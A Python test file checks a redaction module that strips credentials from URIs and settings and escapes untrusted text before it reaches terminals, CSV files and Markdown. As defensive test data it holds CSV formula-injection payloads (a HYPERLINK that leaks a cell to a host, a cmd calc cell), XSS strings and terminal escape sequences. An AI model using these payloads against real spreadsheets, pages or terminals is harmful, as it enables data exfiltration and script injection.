"""The output helpers of jobs/redact.py on hostile values: what a crawled page, a manifest entry or a mistyped
flag can hold must come out as inert text (no secret, no terminal control, no formula, no markup)."""

from __future__ import annotations

import csv
import html
import io
import os
import re
import subprocess
import sys
import unicodedata

import numpy as np
import pytest
from markdown_it import MarkdownIt

from cc_sieve.jobs.redact import csv_cell, markdown_text, printable, redact_setting, redact_uri, redact_uris_in

SECRETS = ("hunter2", "AKIAEXAMPLE", "X-Amz-Signature", "deadbeefsig", "tok3n", "alice")


@pytest.mark.parametrize(("uri", "expected"), [
    ("https://alice:hunter2@data.example.org:8443/crawl/a.warc.gz?X-Amz-Signature=deadbeefsig#tok3n",
     "https://data.example.org:8443/crawl/a.warc.gz"),
    ("s3://AKIAEXAMPLE:hunter2@bucket/crawl/a.warc.gz?versionId=3", "s3://bucket/crawl/a.warc.gz"),
    ("http://alice:hunter2@[::1]:8333/bucket/key?X-Amz-Signature=deadbeefsig", "http://[::1]:8333/bucket/key"),
    ("http://alice:hunter2@127.0.0.1:99999/x?tok3n", "http://127.0.0.1:99999/x"),  # a port urlsplit refuses
    ("HTTPS://ALICE:hunter2@HOST/X?Q=tok3n", "HTTPS://HOST/X"),
    ("https://alice@mirror@host/x", "https://host/x"),  # several @: the host is after the last
    ("alice:hunter2@mlflow.internal:5000", "mlflow.internal:5000"),  # user-info typed without a scheme
    ("//alice:hunter2@host/share/a.warc.gz?tok3n", "//host/share/a.warc.gz"),
    ("https://alice:pass?hunter2@host/x", "https://(redacted)"),  # a raw ? in the password
    ("https://host?email=alice@example.org", "https://(redacted)"),  # or a query: cannot tell, drop both
    ("https://host/cb#access_token=tok3n", "https://host/cb"),
    ("https://host/@writer/post", "https://host/@writer/post"),  # an @ in the path is no user-info
    ("https://data.commoncrawl.org/", "https://data.commoncrawl.org/"),
    ("s3://commoncrawl/crawl-data/CC-MAIN-2024-22/warc.paths.gz", "s3://commoncrawl/crawl-data/CC-MAIN-2024-22/warc.paths.gz"),
    ("sqlite:///tmp/mlflow.db", "sqlite:///tmp/mlflow.db"),
    ("file:///srv/shards/a.warc.gz", "file:///srv/shards/a.warc.gz"),
    ("/srv/shards/a b.warc.gz", "/srv/shards/a b.warc.gz"),  # local paths are kept
    ("C:\\shards\\a.warc.gz", "C:\\shards\\a.warc.gz"),
    ("https://host/a.warc.gz\x1b]0;owned\x07", "https://host/a.warc.gz\\x1b]0;owned\\x07"),
    ("shards/\x1b[2Ja.warc.gz", "shards/\\x1b[2Ja.warc.gz"),
])
def test_redact_uri_keeps_scheme_host_and_path_only(uri, expected):
    redacted = redact_uri(uri)
    assert redacted == expected
    assert not any(secret in redacted for secret in SECRETS)


def test_redact_uris_in_a_message_leaves_the_words_around_them():
    message = ("An error occurred (403) when calling GetObject on https://bucket.s3.example/a.warc.gz?"
               "X-Amz-Credential=AKIAEXAMPLE&X-Amz-Signature=deadbeefsig; retried s3://AKIAEXAMPLE:hunter2@bucket/k, "
               "then 'http://alice:hunter2@[::1]:9/x'\n\x1b[2J")
    assert redact_uris_in(message) == (
        "An error occurred (403) when calling GetObject on https://bucket.s3.example/a.warc.gz retried "
        "s3://bucket/k, then 'http://[::1]:9/x'\\x0a\\x1b[2J")


@pytest.mark.parametrize("key", ["spark.authenticate.secret", "spark.hadoop.fs.s3a.access.key", "AWS_SECRET_ACCESS_KEY",
                                 "mlflow.password", "spark.ssl.keyPassword", "api_token", "gcp.credentials"])
def test_redact_setting_masks_the_value_of_a_key_that_names_a_secret(key):
    assert redact_setting(key, "hunter2") == "*********(redacted)"


def test_redact_setting_keeps_other_values_with_their_uris_redacted():
    assert redact_setting("spark.executor.memory", "2g") == "2g"
    assert redact_setting("spark.eventLog.dir", "s3://AKIAEXAMPLE:hunter2@logs/x?tok3n") == "s3://logs/x"


def test_redact_uris_in_is_linear_on_a_megabyte_of_letters_and_schemes():
    """Guarded by a subprocess timeout (not a benchmark): the quadratic pattern took about 25 minutes here."""
    script = ("from cc_sieve.jobs.redact import redact_uris_in\n"
              "text = 'a' * 1_000_000 + ' https://u:hunter2@h/x?s ' + 'b:/' * 300_000\n"
              "assert redact_uris_in(text) == 'a' * 1_000_000 + ' https://h/x ' + 'b:/' * 300_000\n")
    subprocess.run([sys.executable, "-c", script], check=True, timeout=60)


def test_redact_uri_keeps_its_signature_for_the_reading_layer():
    assert redact_uri.__annotations__ == {"uri": "str", "return": "str"}


HOSTILE_TERMINAL = [
    "\x1b]0;owned\x07",  # OSC: sets the terminal's title
    "\x1b[2J\x1b[H",  # clears the screen
    "\x9b31m",  # C1 CSI, what some terminals take for ESC [
    "ok\rFAKE",  # rewrites the line
    "one\ntwo: forged log line",
    "\x08\x08\x08\x00\x7f",
    "admin\u202e\u2066txt.exe",  # bidirectional override and isolate
    "\u2028\u2029\u061c\u200e\u200f",
]


@pytest.mark.parametrize("text", HOSTILE_TERMINAL)
def test_printable_leaves_no_control_or_bidi_character(text):
    shown = printable(text)
    assert all(unicodedata.category(char) not in ("Cc", "Zl", "Zp") for char in shown)
    assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", shown)
    assert "\n" not in shown and "\r" not in shown


def test_printable_writes_what_it_escapes_and_keeps_ordinary_text():
    assert printable("\x1b[31mred\x1b[0m") == "\\x1b[31mred\\x1b[0m"
    assert printable("a\u202eb\x9b") == "a\\u202eb\\x9b"
    assert printable("café 日本 👩‍💻 tab-free") == "café 日本 👩‍💻 tab-free"  # ZWJ emoji untouched
    assert printable(3.5) == "3.5"


def test_printable_shows_undecodable_file_name_bytes_as_bytes_and_the_result_encodes():
    name = os.fsdecode(b"shard-\xff\xfe.warc.gz")
    shown = printable(name)
    assert shown == "shard-\\xff\\xfe.warc.gz"
    shown.encode("utf-8")  # a lone surrogate would raise here, and crash the print
    assert printable("\ud800x") == "\\ud800x"


def test_printable_is_one_pass_over_a_megabyte_of_escapes():
    text = "\x1b[" * 500_000
    assert printable(text) == "\\x1b[" * 500_000


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://127.0.0.1:9/x?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # spaces first
    "\uff1d1+1",  # a full-width =
])
def test_csv_cell_neutralises_a_formula(cell):
    assert csv_cell(cell) == "'" + cell
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell(cell)])
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0].startswith("'")


@pytest.mark.parametrize("value", ["ordinary text", "", "3-2", "a=b", "'quoted"])
def test_csv_cell_leaves_ordinary_text_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-5, -0.25, 0, 2.5, True, None, np.int64(-3), np.float64(-1.5)])
def test_csv_cell_leaves_numbers_as_numbers(value):
    assert csv_cell(value) is value


HOSTILE_MARKDOWN = [
    "![p](http://127.0.0.1:9/pixel.png)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<http://127.0.0.1:9/>",
    "[ref]: http://127.0.0.1:9/",
    "a | b | c",
    "**bold** _it_ `code` ~~gone~~",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "```",
    "\\*not emphasis\\*",
    "&amp; &lt;img&gt; &#60;",
    "line one\nline two\r\nthree",
    "\x1b[31mred",
    "it's \"quoted\"",
    "![a](<http://127.0.0.1:9/a b.png>)",
]


def render_row(cell: str) -> str:
    """The HTML a CommonMark renderer with raw HTML on and GitHub tables makes of a one-cell table."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    return renderer.render(f"| value |\n| --- |\n| {cell} |\n")


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_markdown_text_renders_as_the_literal_text_in_a_table_cell(text):
    rendered = render_row(markdown_text(text))
    cells = re.findall(r"<td>(.*?)</td>", rendered, flags=re.S)
    assert len(cells) == 1, rendered
    assert "<" not in cells[0]  # no element at all: no img, a, script, em, code
    expected = printable(re.sub(r"\r\n|[\r\n]", " ", text))
    assert html.unescape(cells[0]) == expected


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_markdown_text_renders_as_the_literal_text_in_a_paragraph(text):
    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown_text(text))
    assert rendered.startswith("<p>") and rendered.count("<") == 2, rendered
    assert html.unescape(rendered.removeprefix("<p>").removesuffix("</p>\n")) == printable(
        re.sub(r"\r\n|[\r\n]", " ", text))
